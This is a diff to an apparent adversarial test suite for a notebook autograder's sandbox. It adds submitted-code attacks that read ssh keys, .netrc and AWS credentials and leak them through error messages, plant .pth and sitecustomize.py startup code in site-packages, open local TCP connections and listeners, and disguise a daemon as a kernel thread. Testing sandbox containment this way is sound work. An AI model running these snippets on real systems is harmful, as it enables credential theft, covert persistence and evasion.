@@ -16,6 +16,9 @@ Code in an attack may use placeholders, filled in per run by :class:`Context`:
 ``@COURSE@``  the grader's working directory (a decoy course folder with a gradebook.db)
 ``@SAFE@``    the scratch root of this test run: the only place attacks that overwrite
               grader files ever write to (a real attacker would target the installed package)
+``@OPEN@``    a throwaway folder every user may read (and, for the grader copy in it, write):
+              a world-readable home with secrets, where the fallback sandbox user can reach
+              it, so that only Landlock stands in the way (see :func:`make_open_root`)
 """
 
 from __future__ import annotations
@@ -29,9 +32,12 @@ import shutil
 import sqlite3
 import subprocess
 import sys
+import tempfile
 import time
 from dataclasses import dataclass
 from pathlib import Path
+
+from mlgrader import landlock
 
 REPO = Path(__file__).resolve().parents[2]
 ASSIGNMENT = "01-gradient-descent"
@@ -58,6 +64,12 @@ def readable_by_all(path: Path) -> bool:
 # private temporary copy), but reads any copy of the hidden tests that everyone may read, such
 # as this checkout's own bundle where the checkout is world-readable.
 HIDDEN_TESTS_READABLE_BY_ALL = readable_by_all(BUNDLE / "tests" / NOTEBOOK / "test-derivative.py")
+# Where the host has Landlock the fallback kernel reads only its Python, system folders and
+# its data (ABI 1), and opens no TCP connection (ABI 4); see mlgrader.sandbox.landlock_rules.
+LANDLOCK_ABI = landlock.abi_version()[0]
+LANDLOCK_FS = LANDLOCK_ABI >= 1
+LANDLOCK_TCP = LANDLOCK_ABI >= 4
+NO_LANDLOCK = "without Landlock (this host has none) the fallback sandbox hides no file"
 
 # Lines that only exist in the hidden part of the tests; none may ever reach a result.
 HIDDEN_LINES = (
@@ -68,6 +80,8 @@ HIDDEN_LINES = (
     "def iterate(step, n=10):",
 )
 CANARY = "CANARY-7f3d2a-hidden-test-text"
+# In the course's source notebooks (the instructor's solutions), never in a student's.
+SOLUTION_MARK = "### BEGIN SOLUTION"
 
 
 # --------------------------------------------------------------------------- notebooks
@@ -160,7 +174,9 @@ class Attack:
     # cli: `mlgrader grade --json` (pre-warmed, see Zygote); console: the console script itself;
     # api: grade_notebook() in a fresh interpreter, measuring the grader's memory
     runner: str = "cli"
-    grader_copy: bool = False  # run the grader from a throwaway copy of src/ (PYTHONPATH)
+    # run the grader from a throwaway copy of src/ (PYTHONPATH); "open": one the kernel's user
+    # may write, under @OPEN@ (as a non-root grader's own installation is)
+    grader_copy: bool | str = False
     followup_base: str | None = None  # then grade this honest base with the same grader: it must get its score
     max_grader_rss_mb: float | None = None
     # Known vulnerabilities: {mode: reason}. "contained" = test_attack_is_contained,
@@ -734,14 +750,22 @@ subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", "@TOKEN@"
 
 RENAMED_ORPHAN = """\
 import os, sys
+RENAME = '''
+try:
+    open('/proc/self/comm', 'w').write('kworker/u8:2')
+except OSError:  # /proc is read-only under Landlock: the system call does the same
+    import ctypes
+    ctypes.CDLL(None).prctl(15, b'kworker/u8:2', 0, 0, 0)  # PR_SET_NAME
+import time
+time.sleep(90)
+'''
 # A double-forked daemon in a new session that renames itself (name and command line) to look
 # like a kernel thread: nothing in its argv says python or names this run (the token is only in
 # its environment), so killing by name or by command line misses it.
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
-        os.execve(sys.executable, ["[kworker/u8:2-events]", "-c",
-                                   "open('/proc/self/comm', 'w').write('kworker/u8:2')\\nimport time\\ntime.sleep(90)"],
+        os.execve(sys.executable, ["[kworker/u8:2-events]", "-c", RENAME],
                   {"MLGRADER_ADV_TOKEN": "@TOKEN@", "PATH": os.environ.get("PATH", "")})
     os._exit(0)
 os.wait()
@@ -845,6 +869,88 @@ except ImportError:
     pass
 """
 
+READ_SECRETS = """\
+import glob, os
+# Secrets any user may read: ssh keys, .netrc, cloud credentials in homes (here a throwaway
+# world-readable home, @OPEN@/home), and the course's solution notebooks next to the grader's
+# source (found through PYTHONPATH, which points at the grader's own mlgrader).
+candidates = glob.glob("@OPEN@/home/.ssh/*") + glob.glob("@OPEN@/home/.netrc") + glob.glob("@OPEN@/home/.aws/*")
+candidates += ["@OPEN@/home/.ssh/id_ed25519", "@OPEN@/home/.netrc", "@OPEN@/home/.aws/credentials"]
+candidates += glob.glob("/home/*/.ssh/id_*") + glob.glob("/root/.ssh/id_*")
+for folder in os.environ.get("PYTHONPATH", "").split(os.pathsep):
+    for up in (folder, os.path.dirname(folder), os.path.dirname(os.path.dirname(folder))):
+        candidates += [os.path.join(up, "source", "01-gradient-descent", "gradient_descent.ipynb"),
+                       os.path.join(up, "solutions", "01-gradient-descent", "gradient_descent.ipynb")]
+loot, errors = [], []
+for path in dict.fromkeys(candidates):
+    try:
+        with open(path, errors="replace") as fh:
+            loot.append(f"== {path}\\n{fh.read(100_000)}")
+    except OSError as exc:
+        errors.append(exc)
+text = "\\n".join(loot)
+print(text[:200_000])
+def df(x):  # the grader calls this: hand the loot back in the error message
+    raise RuntimeError(text[:1900])
+if loot:
+    raise RuntimeError("LOOT " + text[:20_000])
+denied = [e for e in errors if isinstance(e, PermissionError)]
+raise (denied or errors)[0]
+"""
+
+PLANT_STARTUP_CODE = """\
+import os, site, sys
+# Code that every later Python start runs: a .pth file in each site-packages folder, and a
+# sitecustomize.py plus a patched mlgrader/checks.py in the grader's own source (PYTHONPATH).
+# Outside the throwaway grader copy (@OPEN@) this corpus plants only a harmless .pth (a comment).
+EVIL = "open('@MARKER@', 'w').write('code planted by a submission ran in a later grader')\\n"
+folders = {p for p in sys.path if p.endswith("-packages") and os.path.isdir(p)}
+folders.update(site.getsitepackages() + [site.getusersitepackages()])
+planted, errors = [], []
+def plant(path, text, mode="x"):
+    try:
+        with open(path, mode) as fh:
+            fh.write(text)
+        planted.append(path)
+    except OSError as exc:
+        errors.append(exc)
+for folder in sorted(folders):
+    plant(os.path.join(folder, "zz-mlgrader-adv-@TOKEN@.pth"), "# planted by a submission\\n")
+for folder in os.environ.get("PYTHONPATH", "").split(os.pathsep):
+    if folder.startswith("@OPEN@/"):
+        plant(os.path.join(folder, "sitecustomize.py"), EVIL, "w")
+        plant(os.path.join(folder, "mlgrader", "checks.py"), "\\n" + EVIL, "a")
+        plant(os.path.join(folder, "zz-mlgrader-adv-@TOKEN@.pth"), "import os\\n")
+print("planted", planted)
+if not planted:
+    denied = [e for e in errors if isinstance(e, PermissionError)]
+    raise (denied or errors)[0]
+"""
+
+TCP_LOCAL_SERVICE = """\
+import socket
+# A TCP service on the grader's host (here a listener on 127.0.0.1 that records what it gets),
+# and a listening port of our own for someone outside to connect to.
+report, errors = [], []
+try:
+    s = socket.create_connection(("127.0.0.1", @PORT@), timeout=3)
+    s.sendall(b"@TOKEN@")
+    s.close()
+    report.append("sent to 127.0.0.1:@PORT@")
+except OSError as exc:
+    errors.append(exc)
+try:
+    server = socket.socket()
+    server.bind(("0.0.0.0", 0))
+    server.listen(1)
+    report.append(f"listening on {server.getsockname()}")
+except OSError as exc:
+    errors.append(exc)
+print(report)
+if errors:
+    raise errors[0]
+"""
+
 STDERR_WARNING = """\
 import sys, warnings
 warnings.warn("this learning rate is on the large side")
@@ -917,10 +1023,26 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("read-hidden-tests", "walk the file system (bundle, /work, the repo, /) for hidden tests and leak them "
                                 "through cell errors, exceptions the grader reads, and prints", "stub",
            cells=(("append:derivative", READ_HIDDEN_TESTS),), exact_score=0.0, modes=("bubblewrap", "subprocess"),
-           xfail_contained=(("subprocess", "VULN (fallback mode): the kernel is not root and cannot read the bundle "
-                                           "being graded, but the fallback mode hides no file: it reads the hidden "
-                                           "tests from this checkout's world-readable autograder/ folder"),)
-           if HIDDEN_TESTS_READABLE_BY_ALL else ()),
+           xfail_contained=(("subprocess", "VULN (fallback mode without Landlock): the kernel is not root and "
+                                           "cannot read the bundle being graded, but the fallback mode hides no "
+                                           "file: it reads the hidden tests from this checkout's world-readable "
+                                           "autograder/ folder"),)
+           if HIDDEN_TESTS_READABLE_BY_ALL and not LANDLOCK_FS else ()),
+    Attack("read-world-readable-secrets", "read world-readable secrets (an ssh key, .netrc, cloud credentials in a "
+                                          "home) and the course's solution notebooks next to the grader's source, "
+                                          "and leak them", "stub",
+           cells=(("append:derivative", READ_SECRETS),), exact_score=0.0, modes=("subprocess",),
+           expect=("permission denied", "landlock abi") if LANDLOCK_FS else (),
+           xfail_contained=() if LANDLOCK_FS else (("subprocess", f"VULN: {NO_LANDLOCK}"),)),
+    Attack("plant-startup-code", "write a .pth into every site-packages folder, and a sitecustomize.py and a "
+                                 "patched mlgrader/checks.py into the grader's source (an installation the "
+                                 "kernel's user may write, as a non-root grader's own venv); the next grade with "
+                                 "that installation (an honest stub) runs it", "wrong",
+           cells=(_after("setup-1", PLANT_STARTUP_CODE),), exact_score=5.0, grader_copy="open", followup_base="stub",
+           runner="console", modes=("subprocess",),
+           expect=("permission denied", "landlock abi") if LANDLOCK_FS else (),
+           xfail_contained=() if LANDLOCK_FS else (("subprocess", "VULN: without Landlock the fallback kernel "
+                                                                  "writes wherever its user may"),)),
     Attack("forged-result-files", "write results.json, grades.csv and feedback in cwd, .., the course folder "
                                   "and /autograder/results", "stub", cells=(_after("setup-2", FORGED_RESULTS),),
            exact_score=0.0),
@@ -944,6 +1066,13 @@ ATTACKS: tuple[Attack, ...] = (
     # -- the network and processes ------------------------------------------------------------
     Attack("network", "TCP to a listener on the host's 127.0.0.1 and to outside addresses, UDP, DNS", "stub",
            cells=(_after("setup-2", NETWORK),), exact_score=0.0),
+    Attack("tcp-local-service", "connect to a TCP service on the grader's 127.0.0.1 and send it data; listen on a "
+                                "port of its own", "stub", cells=(_after("setup-2", TCP_LOCAL_SERVICE),),
+           exact_score=0.0, modes=("subprocess",),  # bubblewrap: see "network" (no network at all)
+           expect=("permission denied", "landlock abi") if LANDLOCK_TCP else (),
+           xfail_contained=() if LANDLOCK_TCP else (("subprocess", "VULN: without Landlock ABI 4 the fallback "
+                                                                   "kernel has the host's network"),),
+           xfail_reported=() if LANDLOCK_TCP else (("subprocess", "nothing is denied to report"),)),
     Attack("orphan-process", "start a detached process (new session) that outlives the kernel", "stub",
            cells=(_after("setup-2", ORPHAN),), exact_score=0.0, modes=("bubblewrap", "subprocess")),
     Attack("renamed-orphan", "a double-forked daemon in a new session that renames itself to look like a "
@@ -1073,11 +1202,17 @@ class Context:
     token: str
     port: int = 9
     autograder_root: Path | None = None  # the folder passed to --autograder
+    open_root: Path | None = None  # see make_open_root; where there is none, a path that does not exist
 
     def fill(self, code: str) -> str:
         return (code.replace("@MARKER@", str(self.marker)).replace("@PORT@", str(self.port))
                 .replace("@TOKEN@", self.token).replace("@COURSE@", str(self.course))
-                .replace("@SAFE@", str(self.root)))
+                .replace("@SAFE@", str(self.root))
+                .replace("@OPEN@", str(self.open_root or "/nonexistent-mlgrader-open-root")))
+
+    def secrets(self) -> list[str]:
+        """Texts only the secrets under open_root hold; none may reach a result."""
+        return [f"SECRET-{kind}-{self.token}" for kind in ("ssh", "netrc", "aws")]
 
 
 def _apply_cells(nb: dict, cells: tuple[tuple[str, str], ...], ctx: Context) -> None:
@@ -1535,16 +1670,63 @@ def processes_with(token: str) -> list[int]:
     return pids
 
 
-def copy_grader_source(root: Path) -> Path:
-    """A throwaway copy of src/ for attacks that overwrite the grader's code."""
+def copy_grader_source(root: Path, open_to_all: bool = False) -> Path:
+    """A throwaway copy of src/ for attacks that overwrite the grader's code.
+
+    ``open_to_all``: every user may write it (as a non-root grader's own installation is
+    writable by its kernels, which run as the same user); ``root`` must then be one that
+    every user may enter (see make_open_root).
+    """
     import mlgrader
 
     target = root / "grader-src"
     if not target.exists():
         shutil.copytree(Path(mlgrader.__file__).resolve().parent, target / "mlgrader",
                         ignore=shutil.ignore_patterns("__pycache__"))
+        if open_to_all:
+            for path in [target, *target.rglob("*")]:
+                path.chmod(0o777 if path.is_dir() else 0o666)
     return target
 
 
+def make_open_root(token: str) -> Path:
+    """A throwaway folder in the system's temporary folder that every user may read.
+
+    It holds a home with secrets any user may read (mode 0644, as many are by mistake):
+    without Landlock the fallback sandbox user reads them; the sandbox must not.
+    """
+    root = Path(tempfile.mkdtemp(prefix="mlgrader-adv-open-"))
+    root.chmod(0o755)
+    home = root / "home"
+    for name, kind in ((".ssh/id_ed25519", "ssh"), (".netrc", "netrc"), (".aws/credentials", "aws")):
+        path = home / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(f"SECRET-{kind}-{token}\n")
+        path.chmod(0o644)
+    for folder in [home, *home.iterdir()]:
+        if folder.is_dir():
+            folder.chmod(0o755)
+    return root
+
+
+def python_folders() -> list[Path]:
+    """The site-packages folders of the Python that grades (where a planted .pth would run)."""
+    import site
+
+    folders = {*site.getsitepackages(), site.getusersitepackages(), *(p for p in sys.path if p.endswith("-packages"))}
+    return sorted(Path(f) for f in folders if os.path.isdir(f))
+
+
+def planted(token: str, extra: list[Path] = ()) -> list[str]:
+    """Files named after ``token`` in the grader's Python folders (and ``extra``): each removed."""
+    found = []
+    for folder in [*python_folders(), grader_source(), *extra]:
+        for path in Path(folder).glob(f"*{token}*"):
+            found.append(str(path))
+            path.unlink()
+    return found
+
+
 __all__ = ["ATTACKS", "Attack", "Context", "Outcome", "build", "grade", "make_bundle", "make_course",
-           "snapshot", "processes_with", "copy_grader_source", "HIDDEN_LINES", "CANARY", "BASE_SCORES"]
+           "snapshot", "processes_with", "copy_grader_source", "make_open_root", "planted", "HIDDEN_LINES",
+           "CANARY", "SOLUTION_MARK", "BASE_SCORES"]
